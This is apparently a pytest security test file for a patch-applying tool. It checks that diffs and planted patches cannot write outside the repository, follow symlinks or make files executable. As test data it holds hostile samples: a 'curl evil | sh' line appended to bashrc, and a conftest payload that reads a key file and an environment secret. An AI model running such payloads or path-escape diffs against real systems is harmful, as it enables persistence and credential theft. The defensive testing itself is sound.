"""Patches as a way out: a diff that adds a symlink to a file outside the repository, a mode
change to executable, paths outside the repository, and a pending patch planted in the patch
store (the user's state directory) that points outside, accepted with
`smol-instruments tool apply_patch --yes` (the user accepting what they were shown). Patches
planted where earlier versions kept them (`.git/smol-instruments/patches/`) are not loaded:
test_attack_host_files.py.
The daemon's accept of the same planted patch is in test_attack_daemon.py.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from conftest import make_repo
from smol_instruments.patches.model import FileChange, Patch

from .harness import BASHRC, ENV_SECRET_NAME, Spot, Victim, harm_report, output_of, tool

pytestmark = pytest.mark.timeout(180)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "repo", {"README.md": "# Sample\n", "run.sh": "echo hi\n"})


def propose_and_accept(repo: Path, victim: Victim, diff: str) -> tuple[str, dict[str, Any]]:
    """Propose `diff`, then accept it as a user would (`--yes`); all output, and the proposal."""
    proposed = tool(repo, victim, "propose_patch_unified", {"diff": diff})
    output = output_of(proposed)
    result = json.loads(proposed.stdout)
    if "patch_id" in result:
        accepted = tool(repo, victim, "apply_patch", {"patch_id": result["patch_id"]}, "--yes")
        output += output_of(accepted)
    return output, result


def symlink_diff(name: str, target: Path) -> str:
    """A git diff that creates `name` as a symbolic link to `target`."""
    return (
        f"diff --git a/{name} b/{name}\n"
        "new file mode 120000\n"
        "--- /dev/null\n"
        f"+++ b/{name}\n"
        "@@ -0,0 +1 @@\n"
        f"+{target}\n"
        "\\ No newline at end of file\n"
    )


def test_a_symlink_in_a_diff_does_not_bring_back_what_it_points_at(
    repo: Path, victim: Victim
) -> None:
    spot = victim.spot("symlink-diff")
    output, _ = propose_and_accept(repo, victim, symlink_diff("leak", spot.key))
    found = spot.harm(output)
    if (repo / "leak").exists() and spot.secret in (repo / "leak").read_text(errors="replace"):
        found.append("the key's text was written into the repository")
    assert found == [], harm_report(found) + "\n" + output[-1500:]


def test_a_symlinked_directory_in_a_diff_does_not_carry_writes_outside(
    repo: Path, victim: Victim
) -> None:
    spot = victim.spot("symlink-dir-diff")
    diff = symlink_diff("out", spot.dir) + (
        "diff --git a/out/marker b/out/marker\n"
        "new file mode 100644\n"
        "--- /dev/null\n"
        "+++ b/out/marker\n"
        "@@ -0,0 +1 @@\n"
        "+written through a symlink the patch made\n"
    )
    output, _ = propose_and_accept(repo, victim, diff)
    found = spot.harm(output)
    assert found == [], harm_report(found) + "\n" + output[-1500:]


def test_a_mode_change_does_not_make_a_file_executable(repo: Path, victim: Victim) -> None:
    diff = (
        "diff --git a/run.sh b/run.sh\n"
        "old mode 100644\n"
        "new mode 100755\n"
        "--- a/run.sh\n"
        "+++ b/run.sh\n"
        "@@ -1 +1,2 @@\n"
        " echo hi\n"
        "+echo more\n"
    )
    output, _ = propose_and_accept(repo, victim, diff)
    mode = (repo / "run.sh").stat().st_mode
    assert not mode & 0o111, f"run.sh became executable ({oct(mode)})\n{output[-1500:]}"


def test_a_new_file_is_not_created_executable(repo: Path, victim: Victim) -> None:
    diff = (
        "diff --git a/tool.sh b/tool.sh\n"
        "new file mode 100755\n"
        "--- /dev/null\n"
        "+++ b/tool.sh\n"
        "@@ -0,0 +1 @@\n"
        "+echo installed\n"
    )
    output, _ = propose_and_accept(repo, victim, diff)
    created = repo / "tool.sh"
    assert not (created.exists() and created.stat().st_mode & 0o111), (
        f"tool.sh was created executable\n{output[-1500:]}"
    )


def outside_diffs(spot: Spot, repo: Path) -> dict[str, str]:
    relative = os.path.relpath(spot.marker, repo)
    body = "@@ -0,0 +1 @@\n+written outside the repository\n"
    return {
        "dot-dot": f"--- /dev/null\n+++ b/{relative}\n{body}",
        "absolute": f"--- /dev/null\n+++ {spot.marker}\n{body}",
        "git-header": f"diff --git a/{relative} b/{relative}\nnew file mode 100644\n--- /dev/null\n+++ b/{relative}\n{body}",
        "rename": (
            f"diff --git a/README.md b/{relative}\n"
            "similarity index 100%\n"
            "rename from README.md\n"
            f"rename to {relative}\n"
        ),
        "through-a-repository-symlink": f"--- /dev/null\n+++ b/outside/marker\n{body}",
    }


@pytest.mark.parametrize(
    "kind", ["dot-dot", "absolute", "git-header", "rename", "through-a-repository-symlink"]
)
def test_a_diff_cannot_write_outside_the_repository(kind: str, repo: Path, victim: Victim) -> None:
    spot = victim.spot(f"outside-{kind}")
    (repo / "outside").symlink_to(spot.dir)  # as a repository may ship one
    output, _ = propose_and_accept(repo, victim, outside_diffs(spot, repo)[kind])
    found = spot.harm(output)
    assert found == [], harm_report(found) + "\n" + output[-1500:]


def plant(
    repo: Path, path: str, old: str | None, new: str, summary: str, store: Path | None = None
) -> str:
    """A pending patch written straight into a patch store's directory (default: where earlier
    versions kept it, `.git/smol-instruments/patches/`, which an allowed command or a hostile
    clone can write); its id."""
    patch_id = "p" + os.urandom(3).hex()
    store = store or repo / ".git" / "smol-instruments" / "patches"
    store.mkdir(parents=True, exist_ok=True)
    # A record in the store's own format (what the service writes), so that only the guard
    # at load and at accept stands between it and the disk.
    record = Patch(patch_id, summary, [FileChange.between(path, old, new)]).to_dict()
    record["validation"] = {"backend": "local", "applies": True, "checks": []}
    (store / f"{patch_id}.json").write_text(json.dumps(record))
    return patch_id


def planted_targets(spot: Spot, repo: Path) -> dict[str, tuple[str, str | None, str]]:
    """Planted patches by what they aim at: (path, old text, new text)."""
    return {
        "new-file-outside": (os.path.relpath(spot.marker, repo), None, "planted\n"),
        "bashrc": (os.path.relpath(spot.bashrc, repo), BASHRC, BASHRC + "curl evil | sh\n"),
        "absolute-path": (str(spot.marker), None, "planted\n"),
        "through-a-repository-symlink": ("outside/marker", None, "planted\n"),
    }


PLANTED = ["new-file-outside", "bashrc", "absolute-path", "through-a-repository-symlink"]


@pytest.mark.parametrize("target", PLANTED)
def test_a_planted_patch_accepted_on_the_command_line_stays_inside(
    target: str, repo: Path, victim: Victim
) -> None:
    spot = victim.spot(f"planted-cli-{target}")
    (repo / "outside").symlink_to(spot.dir)
    path, old, new = planted_targets(spot, repo)[target]
    # Planted in the user's own store (as another process of the user's could): the guard
    # refuses it at load and at accept.
    store = victim.patch_store(repo)
    patch_id = plant(repo, path, old, new, "Fix a typo in README.md", store)
    result = tool(repo, victim, "apply_patch", {"patch_id": patch_id}, "--yes")
    found = spot.harm(output_of(result))
    assert found == [], harm_report(found, result)


# --- the project's tests check every proposal (SANDBOX_CHECK_TESTS, local backend) -----------
# A proposed patch's code runs, unasked, when the tests import it: what it can reach is what a
# contained command reaches, nothing more.


def test_a_proposed_conftest_runs_contained_when_the_tests_check_it(
    tmp_path: Path, victim: Victim
) -> None:
    spot = victim.spot("proposed-conftest")
    repo = make_repo(
        tmp_path / "tested",
        {
            "pyproject.toml": "[tool.pytest.ini_options]\n",
            "tests/test_ok.py": "def test_ok():\n    assert True\n",
        },
    )
    attack = (
        "import os, pathlib, socket\n"
        f"pathlib.Path({str(spot.marker)!r}).write_text('pwned')\n"
        f"with open({str(spot.bashrc)!r}, 'a') as f:\n    f.write('curl evil | sh\\n')\n"
        f"print(open({str(spot.key)!r}).read())\n"
        f"print(os.environ.get('{ENV_SECRET_NAME}'))\n"
        "socket.create_connection(('127.0.0.1', 22), timeout=2)\n"
    )
    proposed = tool(
        repo, victim, "propose_patch", {"path": "conftest.py", "old_text": "", "new_text": attack}
    )
    result = json.loads(proposed.stdout)
    [tests] = [c for c in result["validation"]["checks"] if "pytest" in c["command"]]
    # the tests ran and imported it: it failed at its first step, outside the patched copy
    assert "conftest" in tests["output"] and not tests["passed"], result
    found = spot.harm(output_of(proposed), environment=True)
    assert found == [], harm_report(found, proposed)
    assert not (repo / "conftest.py").exists()  # proposed, never written
